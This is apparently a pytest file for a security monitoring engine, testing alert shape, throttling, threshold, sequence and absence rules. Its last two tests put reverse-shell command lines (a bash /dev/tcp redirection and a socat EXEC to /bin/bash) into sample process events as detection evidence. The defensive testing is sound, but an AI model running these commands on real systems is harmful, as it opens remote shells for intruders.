"""The engine: dataset index, throttling, bounded state, alert shape, resilience."""

from __future__ import annotations

from typing import Any

from prometheus_client import CollectorRegistry, generate_latest

from collector.detect.engine import Engine, EngineLimits
from collector.detect.loader import build_rule
from collector.detect.metrics import DetectionMetrics
from collector.pipeline import Pipeline

T0 = 1_800_000_000.0
RID = "5d0c5e6a-1b7e-4c52-9a55-0f4b6f0e9d11"
RID_B = "0b3f5a40-8f0e-4d4e-9f57-3f1c3b2f6a22"


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> float:
        return self.now


def ev(dataset: str, n: int = 0, at: float | None = None, **fields: Any) -> dict[str, Any]:
    from canhgac.timeutil import from_epoch

    doc: dict[str, Any] = {
        "@timestamp": from_epoch(T0 + (n if at is None else at)),
        "event": {"dataset": dataset, "id": f"{dataset}-{n}", "kind": "event"},
    }
    for key, value in fields.items():
        top, _, rest = key.partition("__")
        if rest:
            doc.setdefault(top, {})
            cur = doc[top]
            parts = rest.split("__")
            for p in parts[:-1]:
                cur = cur.setdefault(p, {})
            cur[parts[-1]] = value
        else:
            doc[top] = value
    return doc


def sigma_rule(rid: str = RID, dataset: str = "process", **extra: Any) -> dict[str, Any]:
    return {
        "title": "shell", "id": rid, "level": "high", "tags": ["attack.t1059.004"],
        "logsource": {"product": "canhgac", "service": dataset},
        "detection": {"sel": {"process.name": "sh"}, "condition": "sel"},
        **extra,
    }


def threshold_rule(**extra: Any) -> dict[str, Any]:
    return {
        "title": "fails", "id": "r-thr", "level": "medium", "kind": "threshold",
        "dataset": "auth", "group_by": ["source.ip"],
        "detection": {"f": {"event.outcome": "failure"}, "condition": "f"},
        "threshold": {"count": 3, "window": "1m"}, **extra,
    }


def make(*docs: dict[str, Any], limits: EngineLimits | None = None) -> tuple[Engine, Clock]:
    clock = Clock()
    return Engine([build_rule(d) for d in docs], limits, clock=clock), clock


def test_events_only_meet_rules_of_their_dataset() -> None:
    engine, _ = make(sigma_rule())
    calls = []
    rule = engine.rules[0]
    inner = rule.predicate
    rule.predicate = lambda doc: calls.append(doc) or inner(doc)
    engine.process([ev("auth", i, process__name="sh") for i in range(50)])
    engine.process([{"no": "event"}, {"event": "weird"}, {"event": {}}])
    assert calls == []
    assert engine.process([ev("process", 1, process__name="sh")])
    assert len(calls) == 1
    assert engine.datasets == {"process"}


def test_alert_shape_and_context_copy() -> None:
    engine, _ = make(sigma_rule())
    src = ev("process", 1, process__name="sh", user__name="www-data", source__ip="203.0.113.5",
             host__hostname="web-01", agent__id="ag-1",
             canhgac={"system": {"id": "dvc", "name": "Cổng dịch vụ công", "level": 3},
                      "unit": {"name": "Sở Thông tin và Truyền thông"},
                      "agent": {"id": "ag-1"}, "heartbeat": {"x": 1}})
    before = repr(src)
    (alert,) = engine.process([src])
    assert repr(src) == before, "the source event must not be changed"
    assert alert["event"]["kind"] == "alert" and alert["event"]["dataset"] == "alert"
    assert alert["event"]["id"] != src["event"]["id"]
    assert alert["event"]["severity"] == 73
    assert alert["rule"] == {"id": RID, "name": "shell", "ruleset": "custom"}
    assert alert["threat"] == {"framework": "MITRE ATT&CK", "technique": {"id": ["T1059.004"]}}
    assert alert["canhgac"]["system"] == {"id": "dvc", "name": "Cổng dịch vụ công", "level": 3}
    assert alert["canhgac"]["unit"]["name"] == "Sở Thông tin và Truyền thông"
    assert "heartbeat" not in alert["canhgac"]
    assert alert["canhgac"]["alert"]["source_event_ids"] == ["process-1"]
    assert alert["canhgac"]["alert"]["severity"] == "high"
    assert alert["host"] == {"hostname": "web-01"}
    assert alert["agent"] == {"id": "ag-1"}
    assert alert["user"] == {"name": "www-data"}
    assert alert["source"] == {"ip": "203.0.113.5"}
    alert["host"]["hostname"] = "changed"
    assert src["host"]["hostname"] == "web-01", "alerts must not share objects with events"


def test_throttle_one_alert_then_one_update_with_the_count() -> None:
    engine, clock = make(sigma_rule(), limits=EngineLimits(throttle=600))
    out = engine.process([ev("process", i, process__name="sh", host__hostname="h")
                          for i in range(1000)])
    assert len(out) == 1
    first = out[0]
    clock.now += 300
    assert engine.tick(clock.now) == []
    clock.now += 301
    (update,) = engine.tick(clock.now)
    al = update["canhgac"]["alert"]
    assert al["update_of"] == first["event"]["id"]
    assert al["suppressed"] == 999 and al["count"] == 999
    assert len(al["source_event_ids"]) == 50
    assert update["event"]["action"] == "rule_update"
    assert engine.tick(clock.now + 1000) == []
    stats = engine.stats()
    assert stats["alerts"][RID] == 2 and stats["suppressed"][RID] == 999


def test_throttle_is_per_key_and_can_be_disabled() -> None:
    engine, _ = make(sigma_rule())
    out = engine.process([ev("process", i, process__name="sh", host__hostname=f"h{i % 3}")
                          for i in range(30)])
    assert len(out) == 3
    engine, _ = make(sigma_rule(throttle=0))
    assert len(engine.process([ev("process", i, process__name="sh") for i in range(30)])) == 30


def test_a_match_after_the_window_gives_the_update_then_a_new_alert() -> None:
    engine, clock = make(sigma_rule(throttle="1m"))
    engine.process([ev("process", i, process__name="sh") for i in range(3)])
    clock.now += 120
    out = engine.process([ev("process", 99, process__name="sh")])
    assert [a["event"]["action"] for a in out] == ["rule_update", "rule_match"]


def test_threshold_continuation_is_suppressed_into_the_open_alert() -> None:
    engine, clock = make(threshold_rule())
    out = engine.process([ev("auth", i, event__outcome="failure", source__ip="1.2.3.4")
                          for i in range(10)])
    assert len(out) == 1 and out[0]["canhgac"]["alert"]["count"] == 3
    (update,) = engine.tick(clock.now + 601)
    assert update["canhgac"]["alert"]["suppressed"] == 7


def test_threshold_distinct_counts_values_not_events() -> None:
    doc = threshold_rule(threshold={"count": 3, "window": "1m", "distinct": "destination.port"})
    engine, _ = make(doc)
    same = [ev("auth", i, event__outcome="failure", source__ip="x", destination__port=22)
            for i in range(10)]
    assert engine.process(same) == []
    ports = [ev("auth", 20 + i, event__outcome="failure", source__ip="x", destination__port=p)
             for i, p in enumerate((80, 443))]
    (alert,) = engine.process(ports)
    assert alert["canhgac"]["alert"]["distinct"] == {"field": "destination.port", "count": 3}


def test_state_is_bounded_and_counted() -> None:
    engine, _ = make(threshold_rule(), limits=EngineLimits(max_keys=10))
    engine.process([ev("auth", i, event__outcome="failure", source__ip=f"10.0.{i // 250}.{i % 250}")
                    for i in range(1000)])
    rule = engine.rules[0]
    assert rule.state_size() == 10
    assert engine.stats()["evicted"]["r-thr"] == 990
    text = _metrics(engine)
    assert 'canhgac_detect_state_evictions_total{rule="r-thr"} 990.0' in text
    assert 'canhgac_detect_state_keys{rule="r-thr"} 10.0' in text
    assert "canhgac_detect_events_total 1000.0" in text


def test_idle_state_expires_on_tick() -> None:
    engine, clock = make(threshold_rule())
    engine.process([ev("auth", i, event__outcome="failure", source__ip=str(i)) for i in range(50)])
    assert engine.rules[0].state_size() == 50
    engine.tick(clock.now + 30)
    assert engine.rules[0].state_size() == 50
    engine.tick(clock.now + 61)
    assert engine.rules[0].state_size() == 0


def test_throttle_eviction_flushes_the_count_instead_of_losing_it() -> None:
    engine, _ = make(sigma_rule(group_by=["source.ip"]), limits=EngineLimits(max_keys=10))
    engine.process([ev("process", i, process__name="sh", source__ip="first") for i in range(5)])
    out = engine.process([ev("process", 100 + i, process__name="sh", source__ip=f"ip{i}")
                          for i in range(10)])
    updates = [a for a in out if a["event"]["action"] == "rule_update"]
    assert len(updates) == 1
    assert updates[0]["canhgac"]["alert"]["suppressed"] == 4
    assert updates[0]["source"]["ip"] == "first"


def test_a_failing_rule_does_not_stop_the_others() -> None:
    engine, _ = make(sigma_rule(RID), sigma_rule(RID_B))

    def boom(doc: dict) -> bool:
        raise RuntimeError("bad")

    engine.rules[0].predicate = boom
    out = engine.process([ev("process", 1, process__name="sh")])
    assert [a["rule"]["id"] for a in out] == [RID_B]
    assert engine.stats()["errors"] == 1


def test_sequence_three_steps_in_order_within_window() -> None:
    doc = {
        "title": "seq", "id": "r-seq", "level": "high", "kind": "sequence",
        "group_by": "user.name",
        "sequence": {"window": "5m", "steps": [
            {"dataset": "auth", "count": 2,
             "detection": {"s": {"event.outcome": "failure"}, "condition": "s"}},
            {"dataset": "auth", "detection": {"s": {"event.outcome": "success"}, "condition": "s"}},
            {"dataset": "process",
             "detection": {"s": {"process.name": "wget"}, "condition": "s"}},
        ]},
    }
    engine, _ = make(doc)
    seq = [ev("auth", 1, event__outcome="failure", user__name="u"),
           ev("auth", 2, event__outcome="failure", user__name="u"),
           ev("auth", 3, event__outcome="success", user__name="u"),
           ev("process", 4, process__name="wget", user__name="u")]
    (alert,) = engine.process(seq)
    assert alert["canhgac"]["alert"]["source_event_ids"] == [
        "auth-1", "auth-2", "auth-3", "process-4"]
    engine, _ = make(doc)
    success_first = [ev("auth", 1, event__outcome="success", user__name="u"),
                     ev("auth", 2, event__outcome="failure", user__name="u"),
                     ev("auth", 3, event__outcome="failure", user__name="u"),
                     ev("process", 4, process__name="wget", user__name="u")]
    assert engine.process(success_first) == []
    engine, _ = make(doc)
    other_user = [*seq[:3], ev("process", 4, process__name="wget", user__name="v")]
    assert engine.process(other_user) == []


def test_sequence_uses_event_time_not_arrival_order() -> None:
    engine, _ = make({
        "title": "seq", "id": "r-seq", "level": "high", "kind": "sequence", "dataset": "auth",
        "group_by": "source.ip",
        "sequence": {"window": "1m", "steps": [
            {"count": 2, "detection": {"s": {"event.outcome": "failure"}, "condition": "s"}},
            {"detection": {"s": {"event.outcome": "success"}, "condition": "s"}}]},
    })
    late_batch = [ev("auth", 2, at=20, event__outcome="failure", source__ip="x"),
                  ev("auth", 1, at=10, event__outcome="failure", source__ip="x"),
                  ev("auth", 3, at=30, event__outcome="success", source__ip="x")]
    (alert,) = engine.process(late_batch)
    assert alert["canhgac"]["alert"]["source_event_ids"] == ["auth-1", "auth-2", "auth-3"]


def test_absence_timeout_follows_the_heartbeat_interval() -> None:
    doc = {"title": "off", "id": "r-off", "level": "medium", "kind": "absence",
           "dataset": "agent.health", "group_by": "agent.id",
           "detection": {"hb": {"agent.id|exists": True}, "condition": "hb"},
           "absence": {"intervals": 3}}
    engine, clock = make(doc, limits=EngineLimits(heartbeat_interval=10))
    engine.process([ev("agent.health", 1, agent__id="a1", host__hostname="srv")])
    assert engine.tick(clock.now + 29) == []
    (alert,) = engine.tick(clock.now + 31)
    assert alert["agent"]["id"] == "a1" and alert["host"]["hostname"] == "srv"
    assert alert["canhgac"]["alert"]["silent_seconds"] == 31
    assert engine.tick(clock.now + 100) == []


def test_the_engine_is_a_pipeline_stage() -> None:
    engine, _ = make(sigma_rule())
    pipeline = Pipeline()
    pipeline.add(engine)
    batch = [ev("process", 1, process__name="sh")]
    extra = pipeline.process(batch)
    assert len(extra) == 1 and extra[0]["event"]["kind"] == "alert"
    assert pipeline.tick(T0 + 10_000) == []


def _metrics(engine: Engine) -> str:
    reg = CollectorRegistry()
    reg.register(DetectionMetrics(engine))
    return generate_latest(reg).decode()


def test_events_without_a_key_are_not_lumped_together() -> None:
    engine, _ = make(threshold_rule())
    assert engine.process([ev("auth", i, event__outcome="failure") for i in range(10)]) == []
    assert engine.rules[0].state_size() == 0


def test_alerts_carry_the_evidence_in_ecs_fields() -> None:
    """Issue 15 finding: alerts copied addresses and user.name only, no executable,
    command line, pid, parent, group or file path."""
    from collector.detect.alerts import build_alert
    from collector.detect.model import Match, RuleMeta

    src = {"event": {"id": "e1", "dataset": "process"}, "host": {"hostname": "web-01"},
           "process": {"pid": 4242, "executable": "/usr/bin/bash", "name": "bash",
                       "command_line": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
                       "parent": {"pid": 1, "executable": "/usr/sbin/sshd",
                                  "command_line": "sshd: root@pts/0"}},
           "user": {"name": "root", "id": "0"}, "group": {"name": "sudo"},
           "file": {"path": "/etc/passwd"}, "destination": {"ip": "203.0.113.5", "port": 4444}}
    meta = RuleMeta(id="r", title="t", level="high")
    alert = build_alert(Match(meta, ("web-01",), ("host.hostname",), src, ["e1"], 1, 0.0, 0.0))
    assert alert["process"] == {k: v for k, v in src["process"].items()}
    assert alert["user"] == {"name": "root", "id": "0"} and alert["group"] == {"name": "sudo"}
    assert alert["file"] == {"path": "/etc/passwd"}
    assert alert["destination"] == {"ip": "203.0.113.5", "port": 4444}
    assert "process.parent.executable" not in alert["process"]  # nested, never a dotted key


def test_a_different_entity_is_never_folded_into_an_open_alert() -> None:
    """Issue 15 finding: a root reverse shell was suppressed because the rule had fired
    10 s earlier on an unrelated process and its (rule, host, user) throttle was open."""
    from collector.detect.engine import Engine, EngineLimits
    from collector.detect.loader import BUILTIN_DIR, load_file

    (lr,) = load_file(BUILTIN_DIR / "host" / "reverse_shell.yml")
    engine = Engine([lr.rule], EngineLimits(throttle=600.0))

    def start(cmd: str, n: int) -> dict:
        return {"@timestamp": "2026-11-23T10:00:00Z", "host": {"hostname": "web-01"},
                "event": {"dataset": "process", "id": f"p{n}", "type": ["start"]},
                "user": {"name": "root"}, "process": {"command_line": cmd, "pid": 100 + n}}

    first = engine.process([start("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 1)])
    assert len(first) == 1
    same = engine.process([start("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", 2)])
    assert same == []  # the same evidence again: folded, counted
    other = engine.process([start("socat TCP:198.51.100.9:9001 EXEC:/bin/bash", 3)])
    assert len(other) == 1  # new evidence: escalated at once
    (update,) = other
    assert update["canhgac"]["alert"]["update_of"] == first[0]["event"]["id"]
    assert update["canhgac"]["alert"]["new_evidence"] == {
        "process.command_line": "socat TCP:198.51.100.9:9001 EXEC:/bin/bash"}
    assert "new evidence process.command_line=socat TCP:198.51.100.9:9001 EXEC:/bin/bash" in update["message"]
    assert update["process"]["pid"] == 103
